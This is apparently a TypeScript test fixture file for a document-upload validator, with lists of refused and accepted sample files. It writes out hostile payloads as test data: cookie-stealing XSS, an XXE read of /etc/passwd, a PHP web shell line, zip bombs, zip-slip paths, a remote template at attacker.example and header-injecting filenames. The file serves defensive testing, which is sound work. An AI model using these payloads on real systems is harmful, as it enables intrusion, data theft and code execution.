import { deflateRawSync } from "node:zlib";
import { type Zippable, zipSync } from "fflate";
import { documentSizeLimit } from "@/lib/offer/documents/rules";

const text = (value: string) => Buffer.from(value, "latin1");
const script = "<!doctype html><script>alert(document.cookie)</script>";
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';

export const pdf = text("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");
export const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const jpeg = Buffer.concat([
  Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
  Buffer.from("ffd9", "hex"),
]);

const types = (main: string, more = "") =>
  `<?xml version="1.0"?><Types ` +
  `xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ` +
  `PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
const docxMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

export function zip(parts: Record<string, string | Uint8Array>): Buffer {
  const all: Zippable = {};
  for (const [name, content] of Object.entries(parts))
    all[name] = typeof content === "string" ? new TextEncoder().encode(content) : content;
  return Buffer.from(zipSync(all, { level: 9 }));
}

export function docx(more: Record<string, string | Uint8Array> = {}): Buffer {
  return zip({
    "[Content_Types].xml": types(docxMain),
    "_rels/.rels": "<Relationships/>",
    "word/document.xml": "<w:document/>",
    ...more,
  });
}

export function odt(more: Record<string, string | Uint8Array> = {}): Buffer {
  const all: Zippable = {
    mimetype: [new TextEncoder().encode("application/vnd.oasis.opendocument.text"), { level: 0 }],
  };
  for (const [name, content] of Object.entries({
    "content.xml": "<office/>",
    "META-INF/manifest.xml": "<manifest/>",
    ...more,
  }))
    all[name] = typeof content === "string" ? new TextEncoder().encode(content) : content;
  return Buffer.from(zipSync(all));
}

/** Marks every entry of a zip as encrypted, in both places where it is said. */
function encrypted(archive: Buffer): Buffer {
  const copy = Buffer.from(archive);
  for (const [signature, offset] of [
    ["PK\u0003\u0004", 6],
    ["PK\u0001\u0002", 8],
  ] as const) {
    for (
      let at = copy.indexOf(signature, 0, "latin1");
      at >= 0;
      at = copy.indexOf(signature, at + 4, "latin1")
    )
      copy.writeUInt16LE(copy.readUInt16LE(at + offset) | 1, at + offset);
  }
  return copy;
}

/** An archive that says its parts are small: what they say must not be believed. */
function understated(archive: Buffer): Buffer {
  const copy = Buffer.from(archive);
  for (
    let at = copy.indexOf("PK\u0001\u0002", 0, "latin1");
    at >= 0;
    at = copy.indexOf("PK\u0001\u0002", at + 4, "latin1")
  )
    copy.writeUInt32LE(10, at + 24);
  return copy;
}

function pngWith(chunk: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([
    png.subarray(0, 33),
    length,
    text(chunk),
    data,
    Buffer.alloc(4),
    png.subarray(33),
  ]);
}

function jpegWith(comment: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 20),
    Buffer.from("fffe", "hex"),
    length,
    text(comment),
    jpeg.subarray(20),
  ]);
}

/** As many of some bytes, one after the other, as a document may hold. */
function pictureOf(head: Buffer, repeated: string, tail: string): Buffer {
  const end = Buffer.from(tail, "hex");
  const room = documentSizeLimit - head.length - end.length;
  const times = Math.floor((room * 2) / repeated.length);
  return Buffer.concat([head, Buffer.alloc((times * repeated.length) / 2, repeated, "hex"), end]);
}

const hex = (name: string) => text(name).toString("hex");
const [jpegStart, pngStart] = [jpeg.subarray(0, 2), png.subarray(0, -12)];
const pngEnd = png.subarray(-12).toString("hex");
const webpStart = Buffer.concat([
  text("RIFF\0\0\0\0WEBPVP8X"),
  Buffer.from(`0a00000008${"00".repeat(9)}`, "hex"),
]);
const nothing = "00000000";
/** The smallest that says a picture lies on its side. */
const tiff = "4d4d011200000000000000060000";

/** Pictures cut as finely as their format allows: taken, at the price of any other. */
export const finelyCutPictures: [string, Buffer, string][] = [
  ["reprises.jpg", pictureOf(jpegStart, "ffd0", "ffd9"), "jpg"],
  ["remplissage.jpg", pictureOf(jpegStart, "ff", "ffd9"), "jpg"],
  ["un-sur-deux.jpg", pictureOf(jpegStart, "fffe0002ffd0", "ffd9"), "jpg"],
  ["exif-vides.jpg", pictureOf(jpegStart, "ffe10002ffe20002", "ffd9"), "jpg"],
  ["trame.jpg", pictureOf(Buffer.from("ffd8ffda0002", "hex"), "ff00", "ffd9"), "jpg"],
  [
    "un-sur-deux.png",
    pictureOf(
      pngStart,
      `${nothing}${hex("IDAT")}${nothing}${nothing}${hex("tEXt")}${nothing}`,
      pngEnd,
    ),
    "png",
  ],
  ["couchees.png", pictureOf(pngStart, `0000000e${hex("eXIf")}${tiff}${nothing}`, pngEnd), "png"],
  [
    "un-sur-deux.webp",
    pictureOf(webpStart, `${hex("ICCP")}${nothing}${hex("EXIF")}${nothing}`, ""),
    "webp",
  ],
];

/** The beginning of a photo of a telephone. */
const heic = (brand: string) =>
  Buffer.concat([
    text("\0\0\0\x1cftyp"),
    text(brand),
    text("\0\0\0\0mif1heicmiaf"),
    Buffer.alloc(200),
  ]);

/** Of an Office file before 2007, what tells what it holds. */
const compound = (name: string): Uint8Array =>
  Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(600),
    Buffer.from(name, "utf16le"),
  ]);

/** Names a template as Word does. */
const templateAt = (target: string, kind = "attachedTemplate") => ({
  "word/_rels/settings.xml.rels":
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rId1" TargetMode="External" Target="${target}" ` +
    `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"/>` +
    "</Relationships>",
});

const zeros = () => new Uint8Array(60 * 1024 * 1024);

/** Name, content, and why it is refused. */
export const refusedFiles: [string, Buffer, string][] = [
  ["vide.pdf", Buffer.alloc(0), "empty"],
  ["trop-grand.pdf", Buffer.concat([pdf, Buffer.alloc(documentSizeLimit)]), "tooLarge"],
  ["page.html", text(script), "wrongType"],
  ["page.pdf", text(script), "wrongType"],
  ["page.pdf.html", text(script), "wrongType"],
  ["espace.pdf", text(`   \n\t${script}`), "wrongType"],
  ["dessin.svg", text(svg), "wrongType"],
  ["dessin.png", text(`<?xml version="1.0"?>${svg}`), "wrongType"],
  ["dessin.jpg", Buffer.concat([Buffer.from("efbbbf", "hex"), text(svg)]), "wrongType"],
  ["dessin.pdf", text(`<!-- %PDF-1.7 -->${svg}`), "wrongType"],
  [
    "dessin.docx",
    text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
    "wrongType",
  ],
  ["dessin.svgz.png", Buffer.from("1f8b0800000000000003", "hex"), "wrongType"],
  [
    "utf16.pdf",
    Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(script, "utf16le")]),
    "wrongType",
  ],
  ["programme.pdf", text("MZ\u0090\u0000\u0003"), "wrongType"],
  ["programme.pdf.exe", text("MZ\u0090\u0000\u0003"), "wrongType"],
  ["elf.png", Buffer.from("7f454c4602010100", "hex"), "wrongType"],
  ["script.jpg", text("#!/bin/sh\nid"), "wrongType"],
  ["script.php.jpg", text("<?php system($_GET['c']); ?>"), "wrongType"],
  [
    "eicar.pdf",
    text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
    "wrongType",
  ],
  ["anime.gif", text("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), "picture"],
  [
    "gifar.gif",
    Buffer.concat([
      text("GIF89a/*\u0000*/=1;alert(1);"),
      zip({ "META-INF/MANIFEST.MF": "Main-Class: X" }),
    ]),
    "picture",
  ],
  [
    "archive.jar.docx",
    zip({ "META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "x" }),
    "wrongType",
  ],
  ["archive.docx", zip({ "bombe.txt": new Uint8Array(1_000_000) }), "wrongType"],
  [
    "tableur.docx",
    zip({
      "[Content_Types].xml": types(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
      ),
      "xl/workbook.xml": "<x/>",
    }),
    "wrongType",
  ],
  ["ancien.doc", Buffer.from("d0cf11e0a1b11ae1", "hex"), "wrongType"],
  [
    "eicar.docx",
    zip({ "eicar.com": "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*" }),
    "wrongType",
  ],
  ["bombe.docx", docx({ "word/a.xml": zeros(), "word/b.xml": zeros() }), "tooHeavy"],
  [
    "bombe-cachee.docx",
    understated(docx({ "word/a.xml": zeros(), "word/b.xml": zeros() })),
    "tooHeavy",
  ],
  ["bombe.odt", odt({ "a.xml": zeros(), "b.xml": zeros() }), "tooHeavy"],
  [
    "mille-parties.docx",
    docx(
      Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`word/${index}.xml`, ""])),
    ),
    "tooHeavy",
  ],
  ["sortie.docx", docx({ "../../etc/cron.d/x": "x" }), "damaged"],
  ["absolu.docx", docx({ "/etc/passwd": "x" }), "damaged"],
  ["lecteur.docx", docx({ "C:\\windows\\x.xml": "x" }), "damaged"],
  ["sans-texte.odt", zip({ mimetype: "application/vnd.oasis.opendocument.text" }), "wrongType"],
  ["macros.docx", docx({ "word/vbaProject.bin": "x" }), "macros"],
  ["macros-casse.docx", docx({ "WORD/VBAPROJECT.BIN": "x" }), "macros"],
  [
    "macros-renommees.docx",
    docx({
      "word/innocent.xml": "x",
      "word/_rels/document.xml.rels":
        "<Relationship " +
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" ' +
        'Target="innocent.xml"/>',
    }),
    "macros",
  ],
  [
    "modele-distant.docx",
    docx({
      "word/_rels/settings.xml.rels":
        '<Relationship Type="http://x/attachedTemplate" ' +
        'Target="https://attacker.example/x.dotm" TargetMode="External"/>',
    }),
    "remoteTemplate",
  ],
  ["modele-unc.docx", docx(templateAt("\\\\serveur\\modeles\\x.dotm")), "remoteTemplate"],
  ["modele-file-unc.docx", docx(templateAt("file://serveur/modeles/x.dotm")), "remoteTemplate"],
  ["modele-barres.docx", docx(templateAt("file:////serveur/x.dotm")), "remoteTemplate"],
  ["modele-code.docx", docx(templateAt("%5C%5Cserveur%5Cx.dotm")), "remoteTemplate"],
  [
    "modele-entites.docx",
    docx(templateAt("&#104;ttps://serveur.example/x.dotm")),
    "remoteTemplate",
  ],
  ["objet-distant.docx", docx(templateAt("https://a.example/x!", "oleObject")), "remoteTemplate"],
  ["programme-dedans.docx", docx({ "word/embeddings/a.exe": "MZ" }), "program"],
  [
    "paquet.docx",
    docx({ "word/embeddings/oleObject1.bin": compound("\u0001Ole10Native") }),
    "program",
  ],
  [
    "classeur-a-macros.docx",
    docx({ "word/embeddings/oleObject1.bin": compound("_VBA_PROJECT") }),
    "macros",
  ],
  ["ancien-complet.doc", Buffer.from(compound("WordDocument")), "oldWord"],
  ["protege-office.docx", Buffer.from(compound("EncryptedPackage")), "encrypted"],
  ["tronque.pdf", pdf.subarray(0, -6), "truncated"],
  ["tronque-linearise.pdf", Buffer.concat([pdf, Buffer.alloc(9_000, "a")]), "truncated"],
  ["photo.heic", heic("heic"), "heic"],
  ["photo.jpg", heic("mif1"), "heic"],
  ["IMG_0042.JPG", heic("heix"), "heic"],
  ["activex.docx", docx({ "word/activeX/activeX1.xml": "x" }), "macros"],
  ["objet.docx", docx({ "word/embeddings/oleObject1.bin": "x" }), "program"],
  ["page-dedans.docx", docx({ "word/media/x.html": script }), "program"],
  ["macros.odt", odt({ "Basic/Standard/Module1.xml": "x" }), "macros"],
  ["scripts.odt", odt({ "Scripts/python/x.py": "x" }), "macros"],
  ["protege.docx", encrypted(docx()), "encrypted"],
  ["protege.odt", encrypted(odt()), "encrypted"],
  ["prolonge.docx", Buffer.concat([docx(), text(script)]), "damaged"],
  ["tronque.docx", docx().subarray(0, -30), "damaged"],
  ["polyglotte.docx", Buffer.concat([text("GIF89a"), docx()]), "picture"],
];

/**
 * Valid by their content and something else besides, or ill named: name, content, the ending they
 * are saved under.
 */
export const acceptedFiles: [string, Buffer, string][] = [
  ["page.html", Buffer.concat([pdf, text(script)]), "pdf"],
  ["devant.pdf", Buffer.concat([text("%PDF-1.4\n%"), text(script), pdf]), "pdf"],
  [
    "actions.pdf",
    text(
      "%PDF-1.7\n1 0 " +
        "obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root " +
        "1 0 R>>\n%%EOF",
    ),
    "pdf",
  ],
  ["pdfzip.zip", Buffer.concat([pdf, zip({ "x.exe": "MZ" })]), "pdf"],
  ["pdf.js", Buffer.concat([text("%PDF-1.7\n/*"), pdf, text("*/alert(1)")]), "pdf"],
  ["page.php", pngWith("tEXt", text(`Comment\u0000${script}`)), "png"],
  ["apres.png.html", Buffer.concat([png, text(script)]), "png"],
  ["archive.png", Buffer.concat([png, zip({ "META-INF/MANIFEST.MF": "x" })]), "png"],
  ["coquille.php.jpg", jpegWith("<?php system($_GET['c']); ?>"), "jpg"],
  ["commentaire.jpg.html", jpegWith(script), "jpg"],
  ["../../../etc/passwd", pdf, "pdf"],
  ["..\\..\\windows\\system.ini", pdf, "pdf"],
  ["nul.html\u0000.pdf", pdf, "pdf"],
  ["facture\u202Efdp.exe", pdf, "pdf"],
  ["\u2066caché\u2069.exe", pdf, "pdf"],
  ['x"; filename="x.html', pdf, "pdf"],
  ["x\r\nSet-Cookie: a=b", pdf, "pdf"],
  ["<img src=x onerror=alert(1)>.pdf", pdf, "pdf"],
  ["CON.pdf", pdf, "pdf"],
  [`${"\u{1F3E5}".repeat(150)}.pdf`, pdf, "pdf"],
  ["rapport.docx", docx(), "docx"],
  ["lettre.odt", odt(), "odt"],
  ["dessin-dedans.odt", odt({ "Pictures/x.svg": svg }), "odt"],
  ["icone.docx", docx({ "word/media/image1.svg": svg, "word/media/image1.png": png }), "docx"],
  [
    "modele-local.docx",
    docx(templateAt("file:///C:\\Users\\x\\Templates\\Lettre%20du%20lyc%C3%A9e.dotx")),
    "docx",
  ],
  ["modele-mac.docx", docx(templateAt("file:///Users/x/Library/Lettre.dotx")), "docx"],
  ["modele-lecteur.docx", docx(templateAt("S:\\Secretariat\\Lettre.dotx")), "docx"],
  ["modele-relatif.docx", docx(templateAt("Lettre.dotx")), "docx"],
  ["lien.docx", docx(templateAt("https://www.ars.sante.fr", "hyperlink")), "docx"],
  ["formule.docx", docx({ "word/embeddings/oleObject1.bin": compound("Equation Native") }), "docx"],
  [
    "graphique.docx",
    docx({ "word/embeddings/Feuille.xlsx": zip({ "xl/workbook.xml": "" }) }),
    "docx",
  ],
  [
    "libreoffice.odt",
    odt({
      "layout-cache": "x",
      "Basic/script-lc.xml": "<library/>",
      "META-INF/manifest.xml":
        '<manifest:manifest xmlns:manifest="m"><manifest:file-entry ' +
        'manifest:full-path="layout-cache" manifest:media-type="application/binary"/>' +
        "</manifest:manifest>",
    }),
    "odt",
  ],
  ["marque.pdf", Buffer.concat([Buffer.from("efbbbf0d0a", "hex"), pdf]), "pdf"],
  ["imprimante.pdf", Buffer.concat([text("\x1b%-12345X@PJL\r\n"), pdf]), "pdf"],
  ["rembourre.pdf", Buffer.concat([pdf, Buffer.alloc(9_000)]), "pdf"],
  ...finelyCutPictures,
];

/**
 * A file of one deflated part without a directory, as a type sniffer believes it and no office
 * program reads it.
 */
export function headerOnly(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content);
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name), data]);
}
